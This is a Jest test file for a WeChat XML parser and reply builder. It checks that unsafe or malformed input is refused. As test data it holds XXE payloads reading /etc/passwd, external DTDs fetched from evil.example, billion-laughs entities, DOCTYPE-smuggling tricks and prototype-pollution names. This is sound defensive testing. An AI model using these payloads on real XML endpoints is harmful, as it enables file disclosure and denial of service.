import {
  buildNewsReply,
  buildTextReply,
  buildXml,
  cdata,
  MalformedXmlError,
  parseXml,
  UnsafeXmlError,
  WeChatArgumentError,
  WeChatCallbackError,
  XmlTooLargeError,
} from '@mirror/wechat';

describe('parseXml', () => {
  it('reads CDATA verbatim and plain text trimmed', () => {
    const sut = parseXml('<xml><A><![CDATA[ keep  me ]]></A><B> 42 </B><C></C></xml>');
    expect(sut).toEqual({ A: ' keep  me ', B: '42', C: '' });
  });

  it('keeps numbers as exact strings', () => {
    expect(parseXml('<xml><MsgId>01234567890123456789</MsgId></xml>').MsgId).toBe('01234567890123456789');
  });

  it('decodes predefined and numeric entities, but not inside CDATA', () => {
    const sut = parseXml('<xml><A>a&amp;b&lt;&#x41;&#20013;</A><B><![CDATA[&amp;]]></B></xml>');
    expect(sut).toEqual({ A: 'a&b<A中', B: '&amp;' });
  });

  it('reads nested and repeated elements', () => {
    const sut = parseXml('<xml><List><item><a>1</a></item><item><a>2</a></item></List></xml>');
    expect(sut.List).toEqual({ item: [{ a: '1' }, { a: '2' }] });
  });

  it('accepts an XML declaration, comments and a Buffer', () => {
    expect(
      parseXml(Buffer.from('<?xml version="1.0" encoding="utf-8"?><!-- hi --><xml><A>是</A></xml>')),
    ).toEqual({
      A: '是',
    });
  });

  it('accepts a byte-order mark and surrounding whitespace', () => {
    expect(parseXml('\uFEFF\n <xml><A>1</A></xml>\n')).toEqual({ A: '1' });
  });

  it('returns an empty record for an empty <xml/>', () => {
    expect(parseXml('<xml/>')).toEqual({});
  });

  it.each([
    ['a DOCTYPE', '<!DOCTYPE xml><xml><A>1</A></xml>', 'DOCTYPE'],
    ['a lower-case doctype', '<!doctype xml><xml/>', 'DOCTYPE'],
    [
      'an external entity (XXE)',
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><A>&xxe;</A></xml>',
      'DOCTYPE',
    ],
    ['a bare ENTITY declaration', '<xml><!ENTITY a "b"><A>1</A></xml>', 'ENTITY'],
    [
      'billion laughs',
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><xml><A>&lol2;</A></xml>',
      'DOCTYPE',
    ],
    [
      'a parameter entity',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml/>',
      'DOCTYPE',
    ],
    ['an external DTD', '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml><A>1</A></xml>', 'DOCTYPE'],
    ['a DOCTYPE after the root', '<xml><A>1</A></xml><!DOCTYPE x>', 'DOCTYPE'],
    ['a DOCTYPE with a space after <!', '<! DOCTYPE x><xml/>', 'DOCTYPE'],
    ['an ELEMENT declaration', '<xml><!ELEMENT a ANY><A>1</A></xml>', 'ELEMENT'],
    ['an ATTLIST declaration', '<xml><!ATTLIST a b CDATA #IMPLIED><A>1</A></xml>', 'ATTLIST'],
    ['a NOTATION declaration', '<xml><!NOTATION n SYSTEM "x"><A>1</A></xml>', 'NOTATION'],
    [
      'a DOCTYPE after an unterminated comment',
      '<!-- <!DOCTYPE x [<!ENTITY e "e">]><xml><A>&e;</A></xml>',
      'DOCTYPE',
    ],
    [
      'a DOCTYPE that a processing instruction hides from the first scan',
      '<?pi <!-- ?><!DOCTYPE x [<!ENTITY e "pwned">]><xml><A>&e;</A><!-- --></xml>',
      'DOCTYPE',
    ],
  ])('refuses %s', (_label, xml, construct) => {
    expect(() => parseXml(xml)).toThrow(UnsafeXmlError);
    expect(() => parseXml(xml)).toThrow(construct);
  });

  it('refuses a DOCTYPE hidden in an attribute value, whatever it declares', () => {
    for (const xml of [
      '<xml a="<!--"><!DOCTYPE x [<!ENTITY e "pwned">]><A>&e;</A>--></xml>',
      '<xml a="<![CDATA["><!DOCTYPE x [<!ENTITY e "pwned">]><A>&e;</A>]]>"</xml>',
    ]) {
      expect(() => parseXml(xml)).toThrow(WeChatCallbackError);
    }
  });

  it('refuses UTF-16, with or without a byte-order mark', () => {
    const xml = '<!DOCTYPE x [<!ENTITY e "e">]><xml><A>&e;</A></xml>';
    expect(() => parseXml(Buffer.from(`\uFEFF${xml}`, 'utf16le'))).toThrow(MalformedXmlError);
    expect(() => parseXml(Buffer.from(xml, 'utf16le'))).toThrow(MalformedXmlError);
  });

  it('allows "<!DOCTYPE" inside a comment', () => {
    expect(parseXml('<!-- <!DOCTYPE x> --><xml><A>1</A></xml>')).toEqual({ A: '1' });
  });

  it('allows the text "<!DOCTYPE" inside CDATA (a customer may type it)', () => {
    expect(parseXml('<xml><Content><![CDATA[<!DOCTYPE html>]]></Content></xml>').Content).toBe(
      '<!DOCTYPE html>',
    );
  });

  it.each([
    ['unclosed tags', '<xml><A>1</xml>'],
    ['text after the root', '<xml><A>1</A></xml>junk'],
    ['two roots', '<xml/><xml/>'],
    ['another root name', '<root><A>1</A></root>'],
    ['a bare ampersand', '<xml><A>a & b</A></xml>'],
    ['text only in the root', '<xml>hello</xml>'],
    ['nothing', ''],
    ['not XML', '{"json": true}'],
  ])('refuses %s as malformed', (_label, xml) => {
    expect(() => parseXml(xml)).toThrow(MalformedXmlError);
  });

  it.each([
    ['a mismatched closing tag', '<xml><A>1</B></xml>'],
    ['an undefined entity', '<xml><A>&nbsp;</A></xml>'],
    ['a character reference XML cannot carry', '<xml><A>&#0;</A></xml>'],
    ['an unterminated CDATA section', '<xml><A><![CDATA[x</A></xml>'],
    ['an unterminated comment', '<xml><!-- x <A>1</A></xml>'],
    ['a bad attribute', '<xml a=1><A>1</A></xml>'],
    ['a bad element name', '<xml><1A>1</1A></xml>'],
    ['elements nested too deep', `<xml>${'<a>'.repeat(40)}${'</a>'.repeat(40)}</xml>`],
    ['elements nested one level too deep', `<xml>${'<a>'.repeat(32)}${'</a>'.repeat(32)}</xml>`],
    ['text after a self-closing root', '<xml/>junk'],
    ['text after a self-closing root, then a comment', '<xml/>junk<!-- c -->'],
    ['a < inside an attribute value', '<xml a="<"><A>1</A></xml>'],
    ['a repeated attribute', '<xml a="1" a="2"><A>1</A></xml>'],
    ['markup other than CDATA and comments', '<xml><A><![INCLUDE[x]]></A></xml>'],
    ['an unknown <! construct', '<xml><!foo><A>1</A></xml>'],
    ['an unterminated processing instruction', '<xml/><?pi '],
    ['an unterminated comment after the root', '<xml/><!-- x'],
    ['an entity named like an Object property', '<xml><A>&constructor;</A></xml>'],
    ['an empty character reference', '<xml><A>&#x;</A></xml>'],
    ['a surrogate character reference', '<xml><A>&#xD800;</A></xml>'],
  ])('refuses %s as malformed', (_label, xml) => {
    expect(() => parseXml(xml)).toThrow(MalformedXmlError);
  });

  it('says where the document breaks', () => {
    expect(() => parseXml('<xml>\n  <A>1</B>\n</xml>')).toThrow(/line 2, column 7/);
  });

  it('reads past attributes, comments and processing instructions inside elements', () => {
    expect(parseXml(`<xml id="1" lang='zh'><A x="a>b"><!-- c --><?pi x?>1</A><B/><C  /></xml>`)).toEqual({
      A: '1',
      B: '',
      C: '',
    });
  });

  it('keeps text next to child elements under #text', () => {
    expect(parseXml('<xml><A>t<b>1</b></A></xml>').A).toEqual({ '#text': 't', b: '1' });
  });

  it('joins trimmed text and verbatim CDATA of one element', () => {
    expect(parseXml('<xml><A> a <![CDATA[ b ]]> c </A></xml>').A).toBe('a b c');
  });

  it('refuses bytes that are not UTF-8', () => {
    expect(() =>
      parseXml(Buffer.from([0x3c, 0x78, 0x6d, 0x6c, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x78, 0x6d, 0x6c, 0x3e])),
    ).toThrow(MalformedXmlError);
  });

  it('refuses a document over the size limit', () => {
    const big = `<xml><A>${'x'.repeat(2000)}</A></xml>`;
    expect(() => parseXml(big, { maxBytes: 1000 })).toThrow(XmlTooLargeError);
    expect(() => parseXml(Buffer.from(big), { maxBytes: 1000 })).toThrow(XmlTooLargeError);
    expect(parseXml(big, { maxBytes: 4000 }).A).toHaveLength(2000);
  });

  it('counts multi-byte characters against the limit', () => {
    expect(() => parseXml(`<xml><A>${'中'.repeat(400)}</A></xml>`, { maxBytes: 1000 })).toThrow(
      XmlTooLargeError,
    );
  });

  it('accepts nesting up to 32 levels, the root included', () => {
    const sut = parseXml(`<xml>${'<a>'.repeat(31)}${'</a>'.repeat(31)}</xml>`);
    expect(JSON.stringify(sut)).toBe(`${'{"a":'.repeat(31)}""${'}'.repeat(31)}`);
  });

  it.each(['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf'])(
    'refuses an element named %s, and the prototype stays untouched',
    (name) => {
      expect(() => parseXml(`<xml><${name}><polluted>1</polluted></${name}></xml>`)).toThrow(
        MalformedXmlError,
      );
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.getPrototypeOf(parseXml('<xml><A>1</A></xml>'))).toBe(Object.prototype);
    },
  );

  it('ignores attribute values, after checking them', () => {
    expect(parseXml('<xml a="&amp;" b="x>y"><A>1</A></xml>')).toEqual({ A: '1' });
    expect(() => parseXml('<xml a="&nbsp;"><A>1</A></xml>')).toThrow(MalformedXmlError);
  });

  it('turns CR and CRLF inside CDATA into LF, as XML requires, and keeps &#13;', () => {
    expect(parseXml('<xml><A><![CDATA[a\r\nb\rc]]></A><B>&#13;</B></xml>')).toEqual({
      A: 'a\nb\nc',
      B: '\r',
    });
  });

  it.each([
    ['comment openers after a declaration in CDATA', `<![CDATA[<!DOCTYPE]]>${'<!--'.repeat(15_000)}`],
    ['CDATA openers after a declaration in CDATA', `<![CDATA[<!DOCTYPE]]>${'<![CDATA['.repeat(7_000)}`],
    ['unclosed tags', '<xml>'.repeat(12_000)],
    ['bare markup openers', `<xml>${'<!'.repeat(30_000)}</xml>`],
  ])('refuses 60 KiB of %s in linear time', (_label, xml) => {
    const started = performance.now();
    expect(() => parseXml(xml)).toThrow(WeChatCallbackError);
    expect(performance.now() - started).toBeLessThan(150);
  });
});

describe('cdata', () => {
  it('splits ]]> so that it survives a round trip', () => {
    const text = 'a]]>b]]]]>c]]>';
    const xml = `<xml><A>${cdata(text)}</A></xml>`;
    expect(parseXml(xml).A).toBe(text);
  });

  it('writes CR as a reference between sections, so that it survives a round trip', () => {
    const text = 'a\r\nb\rc';
    expect(cdata(text)).toBe('<![CDATA[a]]>&#13;<![CDATA[\nb]]>&#13;<![CDATA[c]]>');
    expect(parseXml(`<xml><A>${cdata(text)}</A></xml>`).A).toBe(text);
  });

  it('drops characters XML cannot carry', () => {
    expect(parseXml(`<xml><A>${cdata('a\u0000b\u0008c\td\uFFFFe\uD800')}</A></xml>`).A).toBe('abc\tde');
  });
});

describe('buildXml', () => {
  it('renders strings as CDATA, numbers bare, nested records and arrays as elements', () => {
    const sut = buildXml({ A: 'x', N: 3, Skip: undefined, L: { item: [{ T: 't1' }, { T: 't2' }] } });
    expect(sut).toBe(
      '<xml><A><![CDATA[x]]></A><N>3</N><L><item><T><![CDATA[t1]]></T></item><item><T><![CDATA[t2]]></T></item></L></xml>',
    );
    expect(parseXml(sut)).toEqual({ A: 'x', N: '3', L: { item: [{ T: 't1' }, { T: 't2' }] } });
  });

  it('refuses element names that would break the document', () => {
    expect(() => buildXml({ 'a><b': 'x' })).toThrow(WeChatArgumentError);
  });
});

describe('passive replies', () => {
  const address = { toUser: 'oUser', fromUser: 'gh_account', createTime: 1700000000 };

  it('builds a text reply whose content survives ]]>', () => {
    const content = 'Your photos ]]><script> are ready';
    const sut = parseXml(buildTextReply({ ...address, content }));
    expect(sut).toEqual({
      ToUserName: 'oUser',
      FromUserName: 'gh_account',
      CreateTime: '1700000000',
      MsgType: 'text',
      Content: content,
    });
  });

  it('builds a news reply with its articles', () => {
    const sut = parseXml(
      buildNewsReply({
        ...address,
        articles: [{ title: 'T]]>', description: 'D', picUrl: 'https://p/x.jpg', url: 'https://u/?a=1&b=2' }],
      }),
    );
    expect(sut.MsgType).toBe('news');
    expect(sut.ArticleCount).toBe('1');
    expect(sut.Articles).toEqual({
      item: { Title: 'T]]>', Description: 'D', PicUrl: 'https://p/x.jpg', Url: 'https://u/?a=1&b=2' },
    });
  });

  it('refuses a news reply without articles or with more than 8', () => {
    const article = { title: 't', description: 'd', url: 'https://u' };
    expect(() => buildNewsReply({ ...address, articles: [] })).toThrow(WeChatArgumentError);
    expect(() => buildNewsReply({ ...address, articles: Array(9).fill(article) })).toThrow(
      WeChatArgumentError,
    );
  });
});
